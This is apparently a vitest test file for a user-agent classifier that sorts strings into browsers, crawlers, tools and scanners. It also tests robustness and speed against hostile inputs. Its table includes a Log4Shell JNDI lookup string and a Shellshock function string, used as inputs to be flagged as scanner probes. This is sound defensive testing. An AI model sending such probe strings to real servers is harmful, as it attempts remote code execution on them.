import { existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, test } from "vitest";
import { classifyUserAgent, type UserAgentInfo } from "@/lib/user-agent";

const data = process.env.GATEHOUSE_DATA ?? fileURLToPath(new URL("../../shared/data", import.meta.url));
const crawlers = `${data}/ua_crawler_user_agents/labels.jsonl`;
const accessLog = `${data}/elastic_apache_logs/apache_logs.log`;

const CHROME =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";
const FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
const IPHONE =
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1";
const IPAD =
  "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1";
const PIXEL =
  "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36";
const GOOGLE =
  "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/142.0.0.0 Safari/537.36";

const table: [text: string, expected: Partial<UserAgentInfo>][] = [
  [CHROME, { class: "browser", name: "Chrome", version: "142.0.0.0", os: "Windows 10", device: "desktop" }],
  [FIREFOX, { class: "browser", name: "Firefox", version: "145.0", os: "Linux", device: "desktop" }],
  [IPHONE, { class: "browser", name: "Mobile Safari", version: "18.1", os: "iOS 18.1", device: "mobile" }],
  [IPAD, { class: "browser", name: "Mobile Safari", os: "iOS 17.4", device: "tablet" }],
  [PIXEL, { class: "browser", name: "Chrome", os: "Android 15", device: "mobile" }],
  [`${CHROME} Edg/142.0.0.0`, { class: "browser", name: "Edge" }],
  [GOOGLE, { class: "crawler", name: "Googlebot", version: "2.1", os: null, device: "bot" }],
  [
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    { class: "crawler", name: "bingbot" },
  ],
  ["Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", { class: "bot", name: "AhrefsBot" }],
  ["Tiny Tiny RSS/1.11 (http://tt-rss.org/)", { class: "bot", name: "Tiny Tiny RSS", version: "1.11" }],
  [`${CHROME} GTmetrix`, { class: "bot", name: "GTmetrix" }],
  ["curl/8.5.0", { class: "tool", name: "curl", version: "8.5.0", device: "bot" }],
  ["Wget/1.21.4", { class: "tool", name: "Wget", version: "1.21.4" }],
  ["python-requests/2.31.0", { class: "tool", name: "python-requests", version: "2.31.0" }],
  ["Go-http-client/2.0", { class: "tool", name: "Go HTTP client", version: "2.0" }],
  ["kubectl/v1.30.2 (linux/amd64)", { class: "tool", name: "kubectl", version: "1.30.2" }],
  ["sqlmap/1.8#stable (https://sqlmap.org)", { class: "scanner", name: "sqlmap", version: "1.8" }],
  ["Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", { class: "scanner", name: "Nikto" }],
  ["Mozilla/5.0 zgrab/0.x", { class: "scanner", name: "zgrab", version: "0.x" }],
  ["masscan/1.3 (https://github.com/robertdavidgraham/masscan)", { class: "scanner", name: "masscan" }],
  ["Fuzz Faster U Fool v2.1.0-dev", { class: "scanner", name: "ffuf", version: "2.1.0-dev" }],
  ["Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/)", { class: "scanner", name: "Nmap" }],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  ["${jndi:ldap://203.0.113.9/a}", { class: "scanner", name: "Log4Shell probe" }],
  ["() { :; }; /bin/true", { class: "scanner", name: "Shellshock probe" }],
  ["", { class: "unknown", name: "", version: null, os: null, device: "other" }],
  ["-", { class: "unknown", name: "" }],
];

describe("classifyUserAgent", () => {
  test.each(table)("%s", (text, expected) => {
    expect(classifyUserAgent(text)).toMatchObject(expected);
  });

  test("a browser that carries a scanner's word in its payload is a scanner", () => {
    expect(classifyUserAgent(`${CHROME} sqlmap/1.8`).class).toBe("scanner");
  });

  test("only the first 512 characters count", () => {
    expect(classifyUserAgent(`${CHROME.padEnd(512)}sqlmap`).class).toBe("browser");
    expect(classifyUserAgent(`${CHROME} ${"x".repeat(100_000)}`).class).toBe("browser");
  });

  test("names, versions and systems are bounded and free of control characters", () => {
    const hostile = [
      `${"N".repeat(400)}bot/${"1".repeat(100)}`,
      "a\u0000b\u001b[31mbot/1.0",
      "\ud800bot",
      "bot/\u202e1",
    ];
    for (const text of hostile) {
      const info = classifyUserAgent(text);
      expect(info.name.length).toBeLessThanOrEqual(60);
      expect(info.version?.length ?? 0).toBeLessThanOrEqual(30);
      expect(info.name).not.toMatch(/\p{C}/u);
    }
  });

  test("the memory of answers is bounded and changes no answer", () => {
    for (let index = 0; index < 12_000; index++) classifyUserAgent(`visitor-${index}`);
    expect(classifyUserAgent(CHROME)).toBe(classifyUserAgent(CHROME));
    expect(classifyUserAgent("curl/8.5.0")).toMatchObject({ class: "tool", name: "curl" });
  });

  test("no text of 512 characters takes noticeable time", () => {
    const pieces = [
      "a",
      "aA",
      " ",
      "/",
      "(",
      ";",
      "1.",
      "-",
      "_",
      "android ",
      "build/",
      "Mozilla/5.0 (",
      "Chrome/",
      "http:/",
    ];
    const starts = ["", "Mozilla/5.0 (", "Mozilla/5.0 (Linux; Android 9; ", "Mozilla/5.0 (compatible; "];
    let slowestMilliseconds = 0;
    for (const start of starts) {
      for (const one of pieces) {
        for (const two of pieces) {
          // Different texts of one shape: the fastest counts, so that the machine's hiccups do not.
          let fastestMilliseconds = Number.POSITIVE_INFINITY;
          for (const end of ["x", "y", "z"]) {
            const text = (start + (one + two).repeat(512)).slice(0, 511) + end;
            const before = performance.now();
            classifyUserAgent(text);
            fastestMilliseconds = Math.min(fastestMilliseconds, performance.now() - before);
          }
          slowestMilliseconds = Math.max(slowestMilliseconds, fastestMilliseconds);
        }
      }
    }
    expect(slowestMilliseconds).toBeLessThan(25);
  });
});

describe("against recorded user agents", () => {
  test.skipIf(!existsSync(crawlers))("98 % of known crawlers are no browsers (needs ../shared/data)", () => {
    const texts = readFileSync(crawlers, "utf8")
      .trim()
      .split("\n")
      .map((line) => (JSON.parse(line) as { ua: string }).ua);
    const automata = texts.filter((text) => !["browser", "unknown"].includes(classifyUserAgent(text).class));
    expect(texts.length).toBeGreaterThan(2000);
    expect(automata.length / texts.length).toBeGreaterThan(0.99);
  });

  test.skipIf(!existsSync(accessLog))("no ordinary browser is taken for a bot (needs ../shared/data)", () => {
    const log = readFileSync(accessLog, "utf8").split("\n");
    const texts = new Set(log.map((line) => /"([^"]*)"$/.exec(line)?.[1] ?? ""));
    const ordinary = [
      /^Mozilla\/5\.0 \([^()]*\) AppleWebKit\/[\d.]+ \(KHTML, like Gecko\) Chrome\/[\d.]+ (?:Mobile )?Safari\/[\d.]+$/,
      /^Mozilla\/5\.0 \([^()]*\) Gecko\/[\d.]+ Firefox\/[\d.]+$/,
      /^Mozilla\/5\.0 \([^()]*\) AppleWebKit\/[\d.]+ \(KHTML, like Gecko\) Version\/[\d.]+ (?:Mobile\/\w+ )?Safari\/[\d.]+$/,
    ];
    const browsers = [...texts].filter((text) => ordinary.some((pattern) => pattern.test(text)));
    expect(browsers.length).toBeGreaterThan(200);
    expect(browsers.filter((text) => classifyUserAgent(text).class !== "browser")).toEqual([]);
  });
});
